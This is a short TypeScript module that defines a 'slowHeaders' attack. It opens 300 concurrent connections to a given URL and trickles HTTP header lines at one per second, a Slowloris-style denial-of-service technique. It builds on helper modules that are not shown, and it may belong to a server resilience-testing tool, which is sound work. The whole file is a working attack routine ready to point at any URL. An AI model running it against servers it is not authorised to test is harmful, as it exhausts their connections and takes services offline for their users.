import { type Attack, strangers } from "./attack.ts";
import { repeat, sendSlowly, unsignedHead } from "./connection.ts";

export const slowHeaders: Attack = {
  what: "heads of a line a second, 300 at once",
  run: (url, signal) =>
    strangers(300, signal, () =>
      sendSlowly(url, signal, { pieces: repeat(unsignedHead(10), "X-Slow: a\r\n"), pauseMs: 1_000 }),
    ),
};
